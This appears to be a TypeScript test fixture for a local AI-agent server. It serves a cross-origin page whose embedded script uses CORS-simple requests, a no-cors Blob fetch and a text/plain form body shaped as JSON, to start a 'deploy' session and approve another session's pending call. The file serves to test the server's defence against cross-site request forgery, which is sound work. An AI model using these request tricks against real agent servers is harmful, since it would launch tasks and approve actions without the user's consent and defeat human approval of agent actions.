/**
 * A web page on another origin that tries to drive an agent server the way
 * any page can without the server's consent: "simple" requests, which the
 * browser sends without asking the server first (no CORS preflight). A
 * `fetch` in `no-cors` mode whose body is a typeless `Blob` (so it has no
 * `Content-Type` at all), and an HTML form posted as `text/plain` with its
 * field made to read as JSON. Each tries to start a session and to approve
 * the call a session waits on. The page's title says when every attempt has
 * had its answer.
 */
import * as Http from "node:http"
import type * as Net from "node:net"

const script = String.raw`
(async () => {
  const query = new URLSearchParams(location.search)
  const target = query.get("target")
  const victim = query.get("victim")
  const outcomes = []
  const blob = (path, body) =>
    fetch(target + path, { method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(body)]) })
      .then(() => outcomes.push(path + ": answered"), (error) => outcomes.push(path + ": " + error.message))
  const form = (path, body) => new Promise((resolve) => {
    const frame = document.createElement("iframe")
    frame.name = "frame" + outcomes.length + Math.random().toString(36).slice(2)
    document.body.appendChild(frame)
    const element = document.createElement("form")
    element.method = "POST"
    element.enctype = "text/plain"
    element.action = target + path
    element.target = frame.name
    // text/plain sends name=value: the name opens the JSON, the value closes it
    const text = JSON.stringify(body)
    const input = document.createElement("input")
    input.type = "hidden"
    input.name = text.slice(0, -1) + ",\"pad\":\""
    input.value = "\"}"
    element.appendChild(input)
    document.body.appendChild(element)
    frame.addEventListener("load", () => { outcomes.push(path + ": form answered"); resolve() }, { once: true })
    element.submit()
  })
  await blob("/sessions", { task: "deploy", id: "blob-attack" })
  await blob("/sessions/" + victim + "/control", { type: "approve" })
  await form("/sessions", { task: "deploy", id: "form-attack" })
  await form("/sessions/" + victim + "/control", { type: "approve" })
  document.title = "done: " + outcomes.join("; ")
})()
`

const html = `<!doctype html><html><head><meta charset="utf-8"><title>a page</title></head>
<body><p>Nothing to see here.</p><script>${script}</script></body></html>`

/** Serves the page on 127.0.0.1 at an ephemeral port (another origin than the server's); its URL. */
export const serveAttackPage = (): Promise<{ readonly origin: string; readonly close: () => Promise<void> }> =>
  new Promise((resolve, reject) => {
    const server = Http.createServer((_request, response) => {
      response.writeHead(200, { "content-type": "text/html; charset=utf-8" })
      response.end(html)
    })
    server.on("error", reject)
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address() as Net.AddressInfo
      resolve({
        origin: `http://127.0.0.1:${port}`,
        close: () => new Promise<void>((done) => server.close(() => done()))
      })
    })
  })

/** The page's URL, aimed at a server and at the session whose waiting call it tries to approve. */
export const attackUrl = (origin: string, target: string, victim: string) =>
  `${origin}/?target=${encodeURIComponent(target)}&victim=${encodeURIComponent(victim)}`
